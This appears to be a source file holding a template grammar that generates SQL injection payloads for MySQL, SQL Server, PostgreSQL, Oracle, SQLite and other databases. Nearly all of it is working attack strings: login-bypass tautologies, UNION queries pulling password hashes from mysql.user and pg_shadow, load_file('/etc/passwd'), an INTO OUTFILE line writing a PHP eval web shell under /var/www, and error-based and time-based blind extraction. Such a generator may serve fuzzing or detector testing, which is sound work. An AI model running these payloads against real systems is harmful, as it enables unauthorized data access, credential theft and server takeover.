/** SQL injection: MySQL, SQL Server, PostgreSQL, Oracle, SQLite, DB2, Access. */
export const SQLI = String.raw`
q: 7× '
  3× "
  3× ∅
  2× ')
  '))
  ")
  )
  ))
  %'
  \'
  ´
  ')))
  '␠
  ''
  ’
  %') 
  \"
  };'
s: 16× ␠
  /**/
  +
  ⇥
  ⏎
  ␠␠
  /*‹~2-5›*/
  %20
  ␍⏎
sqlend: 5× -- -
  5× --
  4× #
  2× --␠
  2× -- ‹rnd›
  --+
  ;--
  /*
  ;␀
  2× ∅
  -- ‹noun›
  --/*
  ;#
  ;%00
  --+-
  )--
  ␠LIMIT ‹#0-9›--
  ´´
  //
end2: 3× ‹sqlend›
  and '‹=y:‹rnd››'='‹=y›
  AND '‹=y:‹n››'='‹=y›
  or '‹=y:‹~1››'='‹=y›
  and ('‹=y:‹~1-4››'='‹=y›
  AND "‹=y:‹rnd››"="‹=y›
  || '
  AND '‹rnd›' LIKE '
  AND (‹=y:‹n››=‹=y›
true: 6× ‹=a:‹n››=‹=a›
  ‹=a:‹n›› = ‹=a›
  2× '‹=a:‹rnd››'='‹=a›'
  3× '‹=a:‹n››'='‹=a›
  3× '‹=a:‹~1-2››'='‹=a›
  '‹=a:‹n››'='‹=a›'
  ''='
  ''=''
  ‹#6-9›>‹#1-5›
  ‹#100-999› > ‹#1-99›
  2× "‹=a:‹~1-3››"="‹=a›
  "‹=a:‹n››"="‹=a›"
  ""="
  1
  ‹n›
  true
  TRUE
  not false
  !false
  ~0
  '‹=a:‹~1-2››' like '‹=a›
  '‹~2-6›' LIKE '%
  ‹=a:‹n›› like ‹=a›
  ‹=a:‹n›› in (‹=a›)
  ‹n› between 0 and 99999
  ‹n› BETWEEN ‹#0-3› AND ‹n›
  ‹=a:‹n››<=>‹=a›
  ‹=a:‹n›› is not null
  ‹col› is not null
  ‹col› like '%
  ‹col› LIKE '%‹~1-2›%
  ‹col›=‹col›
  ‹col› <> '
  ‹col›!=''
  length(‹col›)>‹#0-9›
  exists(select ‹#1-9›)
  (‹=a:‹n››)=(‹=a›)
  ('‹=a:‹~1››')=('‹=a›
  ‹=a:‹n››=‹=a› or ''='
  ‹#2-5›+‹=a:‹#100-999››-‹=a›-1=0+0+0+1
  ‹=a:‹n››=‹=a› limit 1
  0x‹=a:‹%4-8››=0x‹=a›
  ascii('a')=97
  '‹~1›'='‹~1›'||'‹~1›'
  1 is true
  'x' regexp 'x
  1 rlike 1
  1-false
false: ‹#1-49›=‹#50-99›
  '‹~1›'='‹^1›‹~2›
  0
  ‹#1-9›>‹#10-99›
  1=2
  false
op: 6× or
  5× OR
  3× and
  4× AND
  2× ||
  2× &&
  Or
  oR
  aNd
  xor
  XOR
  and not
  || not
  or not
  %26%26
  DIV
  ^
select: select
  SELECT
  Select
  SeLeCt
from: from
  FROM
  From
dbfn: version()
  @@version
  user()
  database()
  current_user
  @@hostname
  @@datadir
  system_user()
  session_user()
  schema()
  db_name()
  SYSTEM_USER
  @@basedir
  current_database()
  sqlite_version()
  banner from v§version
  user_name()
  host_name()
  @@servername
  @@global.version
  @@secure_file_priv
subq: select ‹dbfn›
  ‹select› ‹col› ‹from› ‹tab› limit ‹#0-20›,1
  SELECT ‹col› FROM ‹tab› LIMIT 1 OFFSET ‹#0-9›
  select group_concat(‹col›) from ‹tab›
  SELECT GROUP_CONCAT(table_name SEPARATOR 0x3c62723e) FROM information_schema.tables WHERE table_schema=database()
  select group_concat(column_name) from information_schema.columns where table_name='‹tab›'
  SELECT TOP 1 ‹col› FROM ‹tab›
  select top 1 name from ‹master..¦›sysobjects where xtype='U'
  SELECT concat(‹col›,0x3a,‹col›) FROM ‹tab› LIMIT ‹#0-9›,1
  select ‹col› from ‹tab› where ‹col›='‹word›'
  SELECT password FROM mysql.user LIMIT 1
  SELECT MAX(‹col›) FROM ‹tab›
  select schema_name from information_schema.schemata limit ‹#0-9›,1
  SELECT (ELT(‹=e:‹#1000-9999››=‹=e›,1))
  select count(*) from ‹tab›
  SELECT string_agg(‹col›,',') FROM ‹tab›
  select name from sqlite_master where type='table'
  SELECT sql FROM sqlite_master
  SELECT table_name FROM all_tables WHERE rownum=1
  SELECT usename FROM pg_user
  SELECT DISTINCT(db) FROM mysql.db
  select ‹col› from ‹~3-8›.‹tab›
  SELECT tbl_name FROM sqlite_master WHERE type='table' and tbl_name NOT like 'sqlite_%'
hexlit: 0x‹%8-24›
  0x‹hex!‹rnd››
  char(‹charCodes!‹~3-6››)
  CHAR(‹×2-6,:‹#65-122››)
  CHR(‹#65-122›)||CHR(‹#65-122›)||CHR(‹#65-122›)
  CHAR(‹#65-122›)+CHAR(‹#65-122›)+CHAR(‹#65-122›)
  0x7e
  0x‹%2›‹%2›
  unhex('‹%6-12›')

sqli/tautology 6: ‹q›‹s›‹op›‹s›‹true›
  3× ‹q›‹s›‹op›‹s›‹true›‹s›‹sqlend›
  2× ‹q›‹op›‹true›‹sqlend›
  ‹q›‹s›‹op›‹s›(‹true›)‹sqlend›
  ‹q›‹s›‹op›‹s›‹true›‹s›‹op›‹s›‹true›
  -‹#1-9999›‹q›‹s›‹op›‹s›‹true›‹s›‹end2›
  ‹n›‹q›‹s›‹op›‹s›‹true›‹s›‹end2›
  ‹q›‹s›‹op›‹s›‹false›‹s›‹end2›
  -‹n›‹q› or ‹=n:‹n›› = ‹=n› or "‹n›"="‹n›
  ') or ('‹=a:‹~1-3››'='‹=a›
  ") or ("‹=a:‹~1-3››"="‹=a›
  ')) or (('‹=a:‹~1››'))=(('‹=a›
  ‹q› or ‹true› order by ‹#1-9›‹sqlend›
  ' or ‹true› group by ‹col› having ‹=b:‹n››=‹=b›‹sqlend›
  '‹op›'‹=a:‹n››'='‹=a›
  '‹s›‹op›‹s›'‹~1-5›'‹s›!=‹s›'‹~1-5›
  ''‹op› ‹true›
  '||'‹=a:‹n››'='‹=a›
  '=0‹sqlend›
  '='
  '='' or '
  '+'
  '-'
  '&'
  '^'
  '*'
  '-0-'
  '/1/'
  '<>'‹~1-3›
  ' like '%
  ' or ''‹-¦&¦^¦*¦ ¦<>¦!=›'
  '%2b'‹~2-5›
sqli/unquoted 5: ‹n›‹s›‹op›‹s›‹n›=‹n›
  ‹n›‹s›‹op›‹s›‹=a:‹n››=‹=a›
  ‹n› ‹or¦and¦OR¦AND¦||¦&&› ‹true›
  -‹n›‹s›or‹s›‹=a:‹n››‹s›=‹s›‹=a›
  ‹n›) or ‹=a:‹n››=‹=a›‹sqlend›
  ‹n›)) or ((‹=a:‹n››=‹=a›
  ‹n›) AND (‹=a:‹#1000-9999››=‹=a›
  ‹n› or ‹n› > ‹#0-5›
  ‹col› or ‹=a:‹n››=‹=a›
  null or ‹=a:‹n››=‹=a›
  ‹n›‹s›‹and¦AND›‹s›‹col›‹s›like‹s›‹hexlit›
  ‹n› or true‹sqlend›
  ‹n› ‹or¦and› not ‹col›=‹n›
  true or ‹n›
  ‹word› or ‹=a:‹n››=‹=a›
  ‹n› or ‹n› is not null
  ‹n› having ‹=a:‹n››=‹=a›
  ‹n› and ‹#1-9›=(select count(*) from ‹tab›)
  ‹n› and (select ‹col› from ‹tab› limit 1)>‹#0-9›
  ‹n› and exists(select * from ‹tab›)
  ‹n› or ‹col› like ‹hexlit›
  ‹n› %26%26 ‹=a:‹n››=‹=a›
  ‹n›+or+‹=a:‹n››=‹=a›
  ‹n›/**/or/**/‹=a:‹n››=‹=a›
  ‹n›*(‹true›)
  ‹n›-sleep(‹#1-9›)
  (‹n›)or(‹=a:‹n››)=(‹=a›)
  ‹n›||‹=a:‹n››=‹=a›
  ‹n›||(‹subq›)
sqli/short 3: '--
  ‹word›'--
  ‹word›' --
  ‹admin¦root¦administrator¦sa¦test¦user¦guest›'‹--¦#¦/*¦-- -¦;--¦ --¦)--¦'))--›
  ' or '‹=a:‹n››
  ' or ‹n›
  ‹n›' or '‹n›
  ‹n›' #
  ‹n›'#
  ‹n›' --
  ‹n›'/*
  ‹n›';--
  ‹n›')--
  ‹n›" --
  ‹n›)--
  ‹n›;--
  ‹n› --
  ‹n›--
  ‹n›' or 1 #
  ' or ‹n› --
  "or ‹n›#
  'or'
  'or 1#
  'or''='
  ' or ''='
  ‹n›'"
  ‹n›'">
  ‹word›'"‹(¦)¦;›
  ‹n›\'
  \'‹;¦--¦ or 1#›
  ‹word›' and
  ‹word›';
  ‹n›';
  '/*
  ;--
  '';
  ' ;
  '‹);¦)¦))¦");¦')¦"))›--
  ')‹#¦--¦/*¦;--¦ -- -›
  ")‹#¦--¦/*¦;--¦ -- -›
  '%20--
  '|'
  '||'
  '=''
  '#
  "#
  "--
  ‹word›"--
  ‹word›"#
  " or ""="
  ‹n›'||'
  ‹n›' '
  ‹n›'‹+¦-¦*¦/›'‹n›
  ‹word›'||'‹~1-3›
  ‹word›'+'‹~1-3›
  ‹n›' AND '‹n›
  ‹word›%' --
  %' or '%'='
  ‹word›' or 1
  x' or 1=1 or 'x'='y
  ' having 1=1‹sqlend›
  ‹n›' group by ‹n›‹sqlend›
  ‹n› order by ‹#1-40›
  ‹n›'--+
  ‹n›')‹sqlend›
  ‹n›""‹sqlend›
sqli/fragment 3: ‹q›‹s›‹and¦or¦AND¦OR›‹s›‹col›‹s›‹=¦like¦>¦is null¦<>›‹s›'‹word›
  ‹q› or ‹col› ‹like¦LIKE› '‹%¦_›‹~1-4›%
  ‹word›' AND ‹col› IS NULL; --
  ‹word›' AND ‹col›='
  ' AND 1=(SELECT COUNT(*) FROM ‹tab›); --
  ‹q›, ‹col›=‹col›‹sqlend›
  ‹n›' and ‹#1-9›='‹#1-9›
  ', ‹col› = '‹word›' where ‹col› = '‹word›
  ') , ('‹word›','‹word›
  ‹word›', (‹subq›), '‹n›')‹sqlend›
  ‹q›,(select * from (select(sleep(‹#1-20›)))‹~1›)
  '+(‹subq›)+'
  '||(‹subq›)||'
  '-(‹subq›)-'
  "+(‹subq›)+"
  (‹subq›)
  (‹n› and ‹=a:‹n››=‹=a›)
  ‹n›,‹n›) union select ‹n›,‹n›‹sqlend›
  ‹col› in (‹subq›)
  =(‹subq›)
  ' is null or '
  ' between '‹~1›' and '‹~1›
  ‹q› collate ‹latin1_bin¦utf8_bin¦nocase›‹sqlend›
  ‹n›' into @‹~1›‹sqlend›
  ‹q› for update‹sqlend›
  ' ‹n› rows only‹sqlend›
  ' and ‹col› is not null and ''='
  ' or row_count() = ‹n› --
  ' or (‹col› is not null
  ' sounds like '‹~2-5›
sqli/auth 3: ‹user1›' or ‹true›‹sqlend›
  ‹user1›' or '‹=a:‹n››'='‹=a›
  ‹user1›'‹s›‹sqlend›
  ‹user1›') or ('‹=a:‹n››'='‹=a›'‹sqlend›
  ‹user1›" or ‹=a:‹n››=‹=a›‹sqlend›
  ‹user1›' or ‹=a:‹n››=‹=a› limit ‹#0-5›,1‹sqlend›
  ‹user1›' AND ‹col›='‹word›'‹sqlend›
  ‹user1›'/*
  ‹user1›')‹sqlend›
  ' or ‹col›='‹user1›'‹sqlend›
  ' or ‹col› like '%‹user1›%'‹sqlend›
  ' union select ‹n›, '‹user1›', '‹%32›'‹sqlend›
  ‹user1›' or 'x'='x' and ‹col›='‹user1›
  ' or ‹col›=(select top 1 ‹col› from ‹tab›)‹sqlend›
  ‹user1›'; ‹sqlend›
  ‹user1›' || ''='
  '=' 'or'
  ‹user1›' or ‹true› and ‹col›='
  ‹user1›' AND 1=0 UNION ALL SELECT '‹user1›', '‹%32›
  ' or ‹n› in (select ‹n›)‹sqlend›
user1 = admin root administrator sa test user guest demo ‹noun› ‹~3-8› superuser manager

sqli/union 7: ‹q›‹s›‹un›‹s›‹sel›‹s›‹×1-14,:‹ucol››‹s›‹sqlend›
  2× ‹n›‹q›‹s›‹un›‹s›‹sel›‹s›‹×1-10,:‹ucol››‹s›‹from›‹s›‹utab›‹s›‹sqlend›
  2× -‹n›‹q›‹s›‹un›‹s›‹sel›‹s›‹×1-10,:‹ucol››‹s›‹from›‹s›‹utab›‹s›‹sqlend›
  ‹n›‹q›‹s›‹un›‹s›‹sel›‹s›‹×1-10, :‹ucol››
  999999.9‹q› union all select ‹×1-10,:0x‹%10-24››‹sqlend›
  -‹n› union all select ‹×1-30,:null›‹sqlend›
  ‹n›‹q› UNION ALL SELECT ‹×0-8,:NULL›,CONCAT(0x71‹%6›71,‹hexlit›,0x71‹%6›71),‹×1-8,:NULL›-- ‹*4›
  -‹#1000-9999›‹q› UNION ALL SELECT ‹×1-12,:‹#1000-9999››-- ‹*4›
  ‹q› UNION ALL SELECT CHR(113)||CHR(‹#97-122›)||CHR(‹#97-122›)||CHR(‹#97-122›)||CHR(113),‹×1-6,:NULL› FROM DUAL-- ‹*4›
  ‹n›‹q› union select ‹×1-5,:‹ucol›› from (select ‹n›)‹~1› join (select ‹n›)‹~1›
  ‹n›‹q›union(select(‹ucol›),(‹ucol›),(‹ucol›)from(‹utab›))‹sqlend›
  ‹n›‹q›/*!‹#40000-50999›union*/ /*!‹#40000-50999›select*/ ‹×1-9,:‹ucol››‹sqlend›
  ‹q› and 1=2 union ‹all ¦›select ‹×1-9,:‹ucol›› from ‹utab›‹sqlend›
  ‹q› union select ‹×1-5,:‹ucol›› from ‹utab› where ‹col›='‹word›'‹sqlend›
  ‹q› union distinct select ‹×1-5,:‹ucol››‹sqlend›
  ‹n› union select ‹×1-5,:‹ucol›› into outfile '/‹var/www¦tmp›/‹~3-6›.php'‹sqlend›
  1e0union select ‹×1-5,:‹ucol››
  ‹n›.union select ‹×1-5,:‹ucol››
  ‹q› union values row(‹×1-4,:‹ucol››)‹sqlend›
  union select ‹×1-6,:‹ucol›› from ‹utab›
  ‹n›)) union select ‹×1-6,:‹ucol›› from ‹utab›‹sqlend›
  ‹q›;select ‹×1-4,:‹ucol›› from ‹utab›‹sqlend›
  ‹q› except select ‹×1-4,:‹ucol›› from ‹utab›‹sqlend›
  ‹q› intersect select ‹×1-4,:‹ucol››‹sqlend›
  ‹q›%0Aunion%0Aselect%0A‹×1-4,:‹ucol››‹sqlend›
  ‹q› ununionion seselectlect ‹×1-4,:‹ucol››‹sqlend›
  ‹q› uni/**/on sel/**/ect ‹×1-4,:‹ucol››‹sqlend›
  ‹q›/*!union*//*!select*/‹×1-4,:‹ucol››/*!from*/‹utab›‹sqlend›
un: 4× UNION
  4× union
  2× UNION ALL
  2× union all
  UnIoN
  /*!50000UNION*/
  /*!union*/
  uNiOn aLl
  UNION/**/ALL
  union%0aall
  /*!12345UnIoN*/
  UNION DISTINCT
sel: 4× SELECT
  4× select
  SeLeCt
  /*!50000SELECT*/
  /*!select*/
  sElEcT
  SELECT DISTINCT
  select top 1
  select/**/
  /*!12345sElEcT*/
ucol: 6× ‹#1-30›
  6× NULL
  3× null
  4× ‹col›
  @@version
  version()
  user()
  database()
  concat(‹col›,0x3a,‹col›)
  CONCAT_WS(0x3a,‹col›,‹col›)
  group_concat(‹col›)
  group_concat(‹col›,0x3a,‹col›)
  '‹~2-4›'
  "‹~2-4›"
  ‹hexlit›
  table_name
  column_name
  load_file('/etc/passwd')
  LOAD_FILE(0x2f6574632f706173737764)
  (‹subq›)
  md5(‹n›)
  char(‹#65-120›)
  ‹n›-‹n›
  current_user
  '<?php eval(§_POST[‹~1-3›])?>'
  unhex(hex(‹dbfn›))
  banner
  ‹col› as ‹~1-3›
  ‹col›||'~'||‹col›
  *
utab: 4× ‹tab›
  2× information_schema.tables
  information_schema.columns
  information_schema.schemata
  INFORMATION_SCHEMA.TABLES WHERE TABLE_SCHEMA=DATABASE()
  information_schema.columns where table_name='‹tab›'
  mysql.user
  dual
  DUAL
  sysobjects
  master..sysdatabases
  sysusers
  all_tables
  v§version
  all_users
  pg_shadow
  pg_catalog.pg_user
  pg_tables
  sqlite_master
  sqlite_schema
  msysobjects
  sysibm.sysdummy1
  syscat.tables
  rdb§database
  wp_users
  ‹~3-8›.‹tab›
  ´‹tab›´

sqli/probe 3: ‹q›‹s›‹ORDER BY¦order by¦Order By¦ORDER/**/BY¦group by¦GROUP BY›‹s›‹#1-60›‹s›‹sqlend›
  ‹n›‹q› order by ‹#1-20›,‹#1-20›‹sqlend›
  ‹n› order by ‹#1-99›--
  ‹n›‹q› GROUP BY ‹×1-6,:‹#1-9››‹sqlend›
  ‹q› having ‹true›‹sqlend›
  ‹q› group by ‹tab›.‹col› having ‹=a:‹n››=‹=a›‹sqlend›
  ‹q› group by ‹col›, ‹col› having ‹=a:‹n››=‹=a›‹sqlend›
  ‹n› procedure analyse()
  ‹n›‹q› procedure analyse(extractvalue(rand(),concat(0x3a,‹dbfn›)),1)‹sqlend›
  ‹n›‹q› PROCEDURE ANALYSE(EXTRACTVALUE(‹#1000-9999›,CONCAT(0x5c,(BENCHMARK(‹#1-9›000000,MD5(0x‹%8›))))),1)‹sqlend›
  ‹q› limit ‹#0-9›,‹#1-9› into @‹~1›,@‹~1›‹sqlend›
  ‹q› and (select * from (select name_const(‹dbfn›,1),name_const(‹dbfn›,1)) as x)‹sqlend›
  (select ‹col› from ‹tab› order by ‹#1-9› desc)
  ‹asc¦desc¦ASC¦DESC›,(‹subq›)
  ‹asc¦desc›,(select case when (‹=a:‹#1000-9999››=‹=a›) then 1 else 1*(select ‹n› from information_schema.tables) end)
  ‹col›,(‹select› 1 ‹from›(‹select› sleep(‹#1-9›))‹~1›)
  ‹col›;‹select› ‹dbfn›
  if(‹true›,‹col›,‹col›)
  (case when (‹true›) then ‹col› else ‹col› end)
  ‹#1-9›,extractvalue(1,concat(0x7e,‹dbfn›))
  ‹col› limit 1 offset 1 union select ‹n›
  ´‹col›´) ‹desc¦asc›‹sqlend›

sqli/error-mysql 4: ‹q›‹s›‹op›‹s›‹xml1›‹s›‹end2›
  ‹q›‹op›(select 1 from(select count(*),concat((‹subq›),0x7e,floor(rand(0)*2))x from information_schema.tables group by x)a)‹s›‹end2›
  ‹q› AND (SELECT ‹#1000-9999› FROM(SELECT COUNT(*),CONCAT(0x71‹%8›71,(SELECT (ELT(‹=e:‹#1000-9999››=‹=e›,1))),0x71‹%8›71,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)‹s›‹end2›
  ‹q› and(select 1 from(select count(*),concat((select (select concat(0x7e,0x27,Hex(cast(‹dbfn› as char)),0x27,0x7e)) from information_schema.tables limit 0,1),floor(rand(0)*2))x from information_schema.tables group by x)a) and '‹=b:‹n››'='‹=b›
  ‹q› or ‹xml1›‹sqlend›
  (‹xml1›)
  ‹xml1›
  ‹n›-‹xml1›
  ‹q› and exp(~(select*from(‹subq›)‹~1›))‹sqlend›
  ‹q› AND GTID_SUBSET(CONCAT(0x71‹%8›71,(‹subq›),0x71‹%8›71),‹#1000-9999›)‹sqlend›
  ‹q› AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x‹%6›,(‹subq›),0x‹%6›)) USING utf8)))‹sqlend›
  ‹q› and ST_LatFromGeoHash((‹subq›))‹sqlend›
  ‹q› and polygon((select*from(‹subq›)‹~1›))‹sqlend›
  ‹q› and row(‹n›,‹n›)>(select count(*),concat(‹dbfn›,0x3a,floor(rand()*2))‹~1› from (select ‹n› union select ‹n›)‹~1› group by ‹~1› limit 1)‹sqlend›
  ‹q› OR ROW(‹#1000-9999›,‹#1000-9999›)>(SELECT COUNT(*),CONCAT(0x‹%8›,(SELECT ‹n›),0x‹%8›,FLOOR(RAND(0)*2))x FROM (SELECT ‹n› UNION SELECT ‹n›)a GROUP BY x)‹s›‹end2›
  '+(select 1 and row(1,1)>(select count(*),concat(CONCAT(CHAR(95),CHAR(33),CHAR(64),CHAR(52),CHAR(‹#48-122›)),0x3a,floor(rand()*2))x from (select 1 union select 2)a group by x limit 1))+'
  ‹q› or 1 group by concat_ws(0x7e,‹dbfn›,floor(rand(0)*2)) having min(0) or 1‹sqlend›
  ‹q› AND (SELECT ‹=a:‹#1000-9999›› FROM (SELECT(‹sl›))‹*4›)‹end2›
xml1: extractvalue(‹n›,concat(‹0x7e¦0x5c¦0x0a¦char(126)¦0x3a›,(‹subq›)))
  updatexml(‹n›,concat(‹0x7e¦0x5c¦0x0a›,(‹subq›)‹,0x7e¦›),‹n›)
  ExtractValue(‹#1000-9999›,CONCAT(0x5c,0x71‹%8›71,(SELECT (ELT(‹=e:‹#1000-9999››=‹=e›,1))),0x71‹%8›71))
  UPDATEXML(‹#1000-9999›,CONCAT(0x2e,0x71‹%8›71,(‹subq›),0x71‹%8›71),‹#1000-9999›)
  updatexml(rand(),concat(CHAR(126),‹dbfn›,CHAR(126)),null)
  extractvalue(rand(),concat(0x3a,(‹subq›)))
  updatexml(1,concat(0x7e,md5(‹n›)),1)

sqli/error-mssql 3: ‹q›‹s›‹op›‹s›‹n›=convert(int,‹dbfn›)‹sqlend›
  ‹q› AND ‹#1000-9999› IN (SELECT (CHAR(113)+CHAR(‹#97-122›)+CHAR(‹#97-122›)+CHAR(113)+(SELECT (CASE WHEN (‹=e:‹#1000-9999››=‹=e›) THEN CHAR(49) ELSE CHAR(48) END))+CHAR(113)+CHAR(‹#97-122›)+CHAR(113)))‹s›‹end2›
  ‹q› and ‹n›=cast((‹subq›) as int)‹sqlend›
  ‹q› AND ‹#1000-9999›=CONVERT(INT,(SELECT CHAR(113)+CHAR(‹#97-122›)+CHAR(‹#97-122›)+(‹subq›)))‹sqlend›
  ‹n›/(‹select› top 1 ‹col› from ‹tab›)‹sqlend›
  ‹q› and 1=(select top 1 cast(‹col› as varchar(‹n›)) from ‹tab›)‹sqlend›
  ‹q› or 1 in (select @@version)‹sqlend›
  convert(int,(select char(‹#65-122›)+char(‹#65-122›)+‹dbfn›))
  ‹q› and db_name()>‹#0-9›‹sqlend›
  ‹q› and user_name()='dbo'‹sqlend›
  ‹q› and is_srvrolemember('sysadmin')=1‹sqlend›
  ‹q› and (select count(*) from sysobjects)>0‹sqlend›
  ‹q› and ‹n›=(select top 1 name from sysobjects where xtype=char(85) and name not in ('‹tab›'))‹sqlend›
  ‹q› or ‹n› = (select top 1 table_name from information_schema.tables)‹sqlend›
  ‹n› and char(124)+user+char(124)=0‹sqlend›
  ‹q› and has_dbaccess('master')=1‹sqlend›
sqli/error-other 3: ‹q› AND ‹#1000-9999›=CAST((CHR(113)||CHR(‹#97-122›)||CHR(113))||(SELECT (CASE WHEN (‹=e:‹#1000-9999››=‹=e›) THEN 1 ELSE 0 END))::text||(CHR(113)||CHR(‹#97-122›)) AS NUMERIC)‹s›‹end2›
  ‹q› and ‹n›=cast((‹subq›) as ‹int¦integer¦numeric›)‹sqlend›
  ‹n›::int=(‹subq›)
  ,cAsT(chr(126)||‹dbfn›||chr(126) as int)
  ‹q› AND ‹#1000-9999›=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||CHR(113)||(SELECT (CASE WHEN (‹=e:‹#1000-9999››=‹=e›) THEN 1 ELSE 0 END) FROM DUAL)||CHR(113)||CHR(62))) FROM DUAL)‹s›‹end2›
  ‹q› and ‹n›=ctxsys.drithsx.sn(‹n›,(‹subq›))‹sqlend›
  ‹q› AND ‹#1000-9999›=UTL_INADDR.GET_HOST_ADDRESS(CHR(113)||(SELECT ‹col› FROM ‹tab› WHERE ROWNUM=1))‹sqlend›
  ‹q› or ‹n›=utl_inaddr.get_host_name((select banner from v§version where rownum=1))‹sqlend›
  ‹q› and extractvalue(xmltype('<?xml version="1.0"?><a>'||(‹subq›)||'</a>'),'/‹~1›') is not null‹sqlend›
  ‹q› AND (SELECT DBMS_UTILITY.SQLID_TO_SQLHASH((‹subq›)) FROM DUAL) IS NOT NULL‹sqlend›
  ‹q› and ordsys.ord_dicom.getmappingxpath((‹subq›),user,user)=‹n›‹sqlend›
  ‹q› and ‹n›=to_char(dbms_xmlgen.getxml('select "'||(‹subq›)||'" from sys.dual'))‹sqlend›
  ‹q› and query_to_xml('select * from ‹tab›',true,true,'') is not null‹sqlend›
  ‹q› AND ‹#1-9›=(SELECT CASE WHEN (‹true›) THEN 1/0 ELSE NULL END)‹sqlend›
  ‹q›||(SELECT CASE WHEN (‹true›) THEN TO_CHAR(1/0) ELSE '' END FROM dual)||'
  ‹q› and abs(-9223372036854775808)‹sqlend›
  ‹q› and json('‹~3›')‹sqlend›

sqli/time-mysql 4: ‹q›‹s›‹op›‹s›‹sl›‹s›‹end2›
  ‹q›‹s›‹op›‹s›(‹select› ‹n› ‹from› (‹select›(‹sl›))‹*1-4›)‹s›‹end2›
  2× (select(0)from(select(sleep(‹#1-20›)))v)
  (select(0)from(select(sleep(‹=t:‹#1-20››)))v)/*'+(select(0)from(select(sleep(‹=t›)))v)+'"+(select(0)from(select(sleep(‹=t›)))v)+"*/
  ‹q›‹XOR¦xor›(if(now()=sysdate(),sleep(‹#1-20›),0))‹XOR¦OR›‹'Z¦"Z¦'¦"›
  if(now()=sysdate(),sleep(‹#1-20›),0)
  if(now()=sysdate(),sleep(‹=t:‹#1-20››),0)/*'XOR(if(now()=sysdate(),sleep(‹=t›),0))OR'"XOR(if(now()=sysdate(),sleep(‹=t›),0))OR"*/
  ‹n›‹q›‹s›and‹s›if(‹ascii¦ord›(‹substr¦mid¦substring›((‹subq›),‹#1-30›,1))‹>¦=¦<›‹#32-126›,‹sl›,‹n›)‹sqlend›
  ‹q› AND ‹=a:‹#1000-9999››=BENCHMARK(‹#1-9›000000,MD5(0x‹%8›))‹s›‹end2›
  ‹q› or benchmark(‹#1-9›00000‹#0-99›,‹md5¦sha1¦encode›('‹~1-4›'))‹sqlend›
  ‹q› RLIKE (SELECT (CASE WHEN (‹=e:‹#1000-9999››=‹=e›) THEN ‹#1-99› ELSE 0x28 END))‹end2›
  ‹q› RLIKE SLEEP(‹#1-20›)‹end2›
  ‹sl›
  ‹sl›#
  ‹n› or ‹sl›
  '+‹sl›+'
  '||‹sl›||'
  ‹n›-‹sl›
  ‹n›;‹select› ‹sl›‹sqlend›
  ‹q›)‹s›or‹s›‹sl›‹sqlend›
  ' ‹or¦and› ‹sl› ‹=¦like› '
  ‹q› AND (SELECT * FROM (SELECT(‹sl›))‹*3-4›) ‹end2›
  ‹n› AND ELT(‹=e:‹#1000-9999››=‹=e›,‹sl›)
  ‹n›'=sleep(‹#1-20›)='‹n›
  ‹n›'/sleep(‹#1-20›)/'‹n›
  ‹n›^sleep(‹#1-20›)
  ‹n›'*if(‹true›,sleep(‹#1-9›),0)*'
  (SELECT ‹#1000-9999› FROM (SELECT(SLEEP(‹#1-20›)))‹*4›)
  ‹q›%2b(select*from(select(sleep(‹#1-20›)))a)%2b'
sl: 4× sleep(‹#1-20›)
  3× SLEEP(‹#1-20›)
  sleep(‹#0-5›.‹#1-9›)
  sleep (‹#1-20›)
  SLEEP/**/(‹#1-20›)
  SlEeP(‹#1-20›)
  sleep(‹#1-9›*‹#1-9›)
  if(‹true›,sleep(‹#1-20›),0)
  IF(‹true›,SLEEP(‹#1-20›),‹n›)
  benchmark(‹#1-9›000000,md5(‹n›))
  BENCHMARK(‹#10-99›00000,SHA1(‹~1›))
  (case when ‹true› then sleep(‹#1-9›) else 0 end)
  sleep(‹#1-9›)=0
  get_lock('‹~1-3›',‹#1-20›)
  (select count(*) from information_schema.columns A, information_schema.columns B, information_schema.columns C)
sqli/time-mssql 3: ‹q›‹;¦; ¦ ;¦ ›‹wait› '‹#0-0›0:0:‹#1-30›'‹sqlend›
  ‹q›‹;¦; ¦ ›‹wait› '00:00:‹#10-30›'‹sqlend›
  ‹q›‹s›‹wait› '0:0:‹#1-30›'‹s›‹sqlend›
  ‹q›;if (‹subq›) ‹=¦>¦like› ‹'‹word›'¦‹n›› ‹wait› '0:0:‹#1-30›'‹sqlend›
  ‹q›; IF(‹=e:‹#1000-9999››=‹=e›) SELECT ‹n› ELSE ‹wait› '0:0:‹#1-30›'‹sqlend›
  ‹q› AND ‹#1000-9999›=(SELECT COUNT(*) FROM sysusers AS sys1,sysusers AS sys2,sysusers AS sys3,sysusers AS sys4,sysusers AS sys5)‹sqlend›
  ‹n›;‹wait› '0:0:‹#1-30›'‹sqlend›
  ‹q›);‹wait› '0:0:‹#1-30›'‹sqlend›
  ;‹wait› '0:0:‹#1-30›'
  ‹q› if (ascii(substring(‹dbfn›,‹#1-9›,1))>‹#32-126›) ‹wait› '0:0:‹#1-9›'‹sqlend›
  ‹q›;DECLARE @‹=v:‹~1-3›› CHAR(9);SET @‹=v›=0x303a303a‹%2-4›;WAITFOR DELAY @‹=v›‹sqlend›
  ‹q› OR ‹n›=(SELECT ‹n›);‹wait› '0:0:‹#1-9›'--
wait: 3× WAITFOR DELAY
  3× waitfor delay
  WAITFOR/**/DELAY
  WaItFoR DeLaY
  waitfor time
sqli/time-pgsql 3: ‹q›‹;¦; ¦ ;›‹select› ‹pgs›‹sqlend›
  ‹q›‹s›‹op›‹s›‹n›=(‹select› ‹n› ‹from› ‹pgs›)‹s›‹end2›
  ‹q› AND ‹=a:‹#1000-9999››=(SELECT ‹=a› FROM PG_SLEEP(‹#1-20›))‹s›‹end2›
  ‹q›||‹pgs›‹sqlend›
  ‹q›||(select ‹n› from ‹pgs›)||'
  ‹q›;select case when (‹true›) then ‹pgs› else pg_sleep(0) end‹sqlend›
  ‹q› or ‹n› = (select count(*) from generate_series(1,‹#1-9›000000))‹sqlend›
  ‹pgs›
  ‹n›;‹select› ‹pgs›‹sqlend›
  (SELECT ‹#1000-9999› FROM PG_SLEEP(‹#1-20›))
  ‹q›)) or ‹pgs›‹sqlend›
  '; select ‹pgs› from ‹tab› where ‹col›='‹word›'‹sqlend›
pgs: 3× pg_sleep(‹#1-20›)
  3× PG_SLEEP(‹#1-20›)
  pg_sleep(‹#0-5›.‹#1-9›)
  (select pg_sleep(‹#1-20›))
  pg_sleep(‹#1-20›)::text
